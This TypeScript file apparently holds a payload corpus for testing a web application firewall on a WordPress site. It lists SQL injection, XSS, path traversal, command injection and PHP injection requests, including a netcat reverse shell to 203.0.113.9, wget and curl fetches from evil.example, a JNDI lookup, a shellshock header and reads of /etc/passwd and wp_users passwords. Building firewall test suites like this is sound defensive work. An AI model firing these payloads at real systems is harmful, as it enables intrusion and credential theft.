/** One attack: what it is, and the request that carries it. */
export interface Attack {
  readonly what: string;
  readonly path: string;
  readonly method?: "GET" | "POST";
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const FORM = { "Content-Type": "application/x-www-form-urlencoded" };

const query = (what: string, text: string, name = "q"): Attack => ({
  what: `${what} in the query`,
  path: `/?${name}=${encodeURIComponent(text)}`,
});
const body = (what: string, text: string, path = "/lien-he"): Attack => ({
  what: `${what} in the body`,
  path,
  method: "POST",
  headers: FORM,
  body: `noidung=${encodeURIComponent(text)}`,
});
const json = (what: string, text: string): Attack => ({
  what: `${what} in JSON`,
  path: "/wp-json/wp/v2/posts/1",
  method: "POST",
  headers: { "Content-Type": "application/json" },
  body: JSON.stringify({ content: text }),
});
const header = (what: string, name: string, text: string): Attack => ({
  what: `${what} in ${name}`,
  path: "/",
  headers: { [name]: text },
});
const cookie = (what: string, text: string): Attack => header(what, "Cookie", `mau=${text}`);
const path = (what: string, text: string): Attack => ({ what: `${what} in the path`, path: text });

/** Of our own making, over the classes of the core rule set. */
export const ATTACKS: readonly Attack[] = [
  // SQL
  query("a tautology", "' or '1'='1"),
  query("a tautology", "x' OR 1=1-- -"),
  query("a union", "-1 union all select user_login,user_pass from wp_users"),
  query("a union in a search", "' union select 1,2,3-- -", "s"),
  query("a delay", "1 and sleep(10)"),
  query("a delay in a search", "1' and sleep(5)#", "s"),
  query("a stacked statement", "1'; drop table wp_posts;--"),
  query("tables' names", "1 and (select count(*) from information_schema.tables)>0"),
  query("a benchmark", "1 or benchmark(5000000,md5(1))"),
  query("a file", "1 union select load_file(0x2f6574632f706173737764)"),
  body("a tautology", "admin' or 'a'='a"),
  body("a union", "1 union select null,concat(user(),0x3a,version())"),
  body("a delay", "1'; waitfor delay '0:0:9'--"),
  json("a union", "x' union select user_pass from wp_users-- -"),
  cookie("a tautology", "1' or '1'='1"),
  // scripts
  query("a script", "<script>alert(document.cookie)</script>"),
  query("a script in a search", "<script>alert(1)</script>", "s"),
  query("a handler", "<img src=x onerror=alert(1)>"),
  query("a handler in a search", '"><svg onload=alert(1)>', "s"),
  query("a script's address", "javascript:alert(document.domain)"),
  query("a script's address in a search", "javascript:alert(document.domain)", "s"),
  query("a script's address in a search", "java\tscript:eval(1)", "s"),
  query("a frame", "<iframe src=javascript:alert(1)>"),
  query("a style", "<style>@import 'http://evil.example/x.css';</style>"),
  query("an object", "<object data=data:text/html;base64,PHNjcmlwdD4=>"),
  body("a script", "<script src=//evil.example/x.js></script>"),
  body("a handler", "<body onload=fetch('//evil.example')>"),
  body("a handler", "<details open ontoggle=alert(1)>"),
  json("a script", "<script>alert(1)</script>"),
  header("a script", "User-Agent", "<script>alert(1)</script>"),
  header("a script", "Referer", "https://x.example/<script>alert(1)</script>"),
  cookie("a script", "<script>alert(1)</script>"),
  // files of the server
  query("a way up", "../../../../etc/passwd"),
  query("a way up in a search", "../../../../etc/passwd", "s"),
  query("a way up, twice encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
  query("a way up for Windows", "..\\..\\..\\windows\\win.ini"),
  query("a secret file", "/etc/shadow"),
  query("a file of settings", "wp-config.php"),
  query("a secret file in a search", "/etc/passwd", "s"),
  query("a process", "/proc/self/environ"),
  body("a way up", "../../../../../etc/passwd"),
  json("a way up", "../../../../etc/passwd"),
  path("a way up", "/tai-ve/..%2f..%2f..%2fetc%2fpasswd"),
  path("a repository", "/.git/config"),
  path("a secret file", "/.env"),
  path("a backup", "/wp-config.php.bak"),
  // commands
  query("a command", ";cat /etc/passwd"),
  query("a command in a search", "; cat /etc/passwd", "s"),
  query("a command", "|/bin/sh -c id"),
  query("a command", "$(wget http://evil.example/x)"),
  query("a command in a search", "$(id)", "s"),
  query("a command", "& nc -e /bin/bash 203.0.113.9 4444"),
  query("a command for Windows", "powershell.exe -enc SQBFAFgA"),
  body("a command", "`curl http://evil.example/x.sh`"),
  body("a command", "; rm -rf /tmp/*; wget http://evil.example"),
  json("a command", ";cat /etc/passwd"),
  header("a shell's fault", "User-Agent", "() { :; }; /bin/bash -c id"),
  cookie("a command", "$(cat /etc/passwd)"),
  // code from elsewhere
  query("an address", "http://203.0.113.9/shell.txt?"),
  query("an address", "ftp://203.0.113.9/x"),
  body("an address", "http://203.0.113.9/shell.txt?"),
  query("an address in a search", "http://203.0.113.9/shell.txt?", "s"),
  query("a wrapper", "php://filter/convert.base64-encode/resource=index"),
  query("a wrapper", "php://input"),
  // PHP
  query("PHP", "<?php system($_GET['c']); ?>"),
  query("PHP in a search", "<?php eval($_POST[1]); ?>", "s"),
  query("a function", "system('id')"),
  query("a variable", "$_SERVER['DOCUMENT_ROOT']"),
  query("an object", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}'),
  body("PHP", "<?php echo shell_exec('id');"),
  body("a function", "eval(base64_decode('aWQ='))"),
  json("PHP", "<?php system('id');"),
  // other interpreters
  query("Java", "${jndi:ldap://evil.example/a}"),
  query("Node", "require('child_process').exec('id')"),
  // sessions
  query("a session", "<meta http-equiv=Set-Cookie content='PHPSESSID=1'>"),
  {
    what: "a session set by another site",
    path: "/?PHPSESSID=1",
    headers: { Referer: "http://evil.example/" },
  },
  // the protocol
  query("a header", "x\r\nSet-Cookie: a=b"),
  query("a second answer", "x\r\n\r\nHTTP/1.1 200 OK\r\n"),
  header("a scanner", "User-Agent", "sqlmap/1.7 (https://sqlmap.org)"),
  header("a scanner", "User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
  header("a scanner", "User-Agent", "masscan/1.3"),
  // past the rules about paths
  { what: "rest_route", path: "/?rest_route=/wp/v2/users" },
  { what: "rest_route, encoded", path: "/?rest%5Froute=/wp/v2/users" },
  { what: "rest_route as PHP reads it", path: "/?rest.route=/wp/v2/users" },
  { what: "rest_route after a blank", path: "/?+rest_route=/wp/v2/users" },
  { what: "rest_route as a list", path: "/?rest_route[]=/wp/v2/users" },
  { what: "rest_route in capitals", path: "/?REST_ROUTE=/wp/v2/users" },
  { what: "rest_route beside an upload", path: "/wp-json/wp/v2/media?rest_route=&s=a" },
  {
    what: "rest_route in the body",
    path: "/",
    method: "POST",
    headers: FORM,
    body: "rest%5Froute=/wp/v2/users",
  },
];
